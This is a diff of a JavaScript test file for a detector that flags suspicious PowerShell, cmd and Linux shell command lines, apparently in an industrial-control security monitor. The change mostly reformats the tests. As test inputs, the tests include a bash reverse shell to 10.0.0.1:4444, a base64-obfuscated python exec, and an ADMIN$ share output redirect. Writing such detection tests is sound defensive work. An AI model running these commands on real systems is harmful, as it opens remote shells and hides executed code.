@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { decodeEncodedCommand, scriptContentDetector as d } from './script-content.js';
+import { scriptContentDetector as d, decodeEncodedCommand } from './script-content.js';
 import { ev, techniquesOf } from './test-helpers.js';
 
 const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
@@ -27,7 +27,10 @@ test('inline PowerShell: plain is low, hidden/bypass medium, FromBase64String hi
 });
 
 test('PowerShell running a script file, or interactive, is not reported', () => {
-  assert.deepEqual(techniquesOf(d, ev({ exe: PS, cmd: 'powershell.exe -ExecutionPolicy RemoteSigned -File C:\\ops\\backup.ps1' })), []);
+  assert.deepEqual(
+    techniquesOf(d, ev({ exe: PS, cmd: 'powershell.exe -ExecutionPolicy RemoteSigned -File C:\\ops\\backup.ps1' })),
+    [],
+  );
   assert.deepEqual(techniquesOf(d, ev({ exe: PS, cmd: 'powershell.exe' })), []);
   assert.deepEqual(techniquesOf(d, ev({ exe: PS, cmd: 'powershell.exe -NoLogo -NoProfile' })), []);
 });
@@ -35,17 +38,26 @@ test('PowerShell running a script file, or interactive, is not reported', () => 
 test('cmd /c plain is not reported; cmd with obfuscation or admin-share output is T0807', () => {
   assert.deepEqual(techniquesOf(d, ev({ exe: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c dir C:\\' })), []);
   assert.deepEqual(
-    techniquesOf(d, ev({ exe: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__16190 2>&1' })),
+    techniquesOf(
+      d,
+      ev({ exe: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__16190 2>&1' }),
+    ),
     ['T0807'],
   );
 });
 
 test('Linux: python -c with base64 exec, bash reverse shell; plain sh -c not reported', () => {
   assert.deepEqual(
-    techniquesOf(d, ev({ exe: '/usr/bin/python3', args: ['python3', '-c', 'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'] })),
+    techniquesOf(
+      d,
+      ev({ exe: '/usr/bin/python3', args: ['python3', '-c', 'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'] }),
+    ),
     ['T0853'],
   );
-  assert.deepEqual(techniquesOf(d, ev({ exe: '/usr/bin/bash', args: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] })), ['T0807']);
+  assert.deepEqual(
+    techniquesOf(d, ev({ exe: '/usr/bin/bash', args: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] })),
+    ['T0807'],
+  );
   assert.deepEqual(techniquesOf(d, ev({ exe: '/bin/sh', args: ['sh', '-c', 'ls -l /var/log'] })), []);
   assert.equal(d.detect(ev({ exe: '/usr/bin/python3', args: ['python3', '-c', 'print(1)'] }))[0]?.severity, 'low');
   assert.deepEqual(techniquesOf(d, ev({ exe: '/usr/bin/python3', args: ['python3', '/opt/scada/poll.py'] })), []);
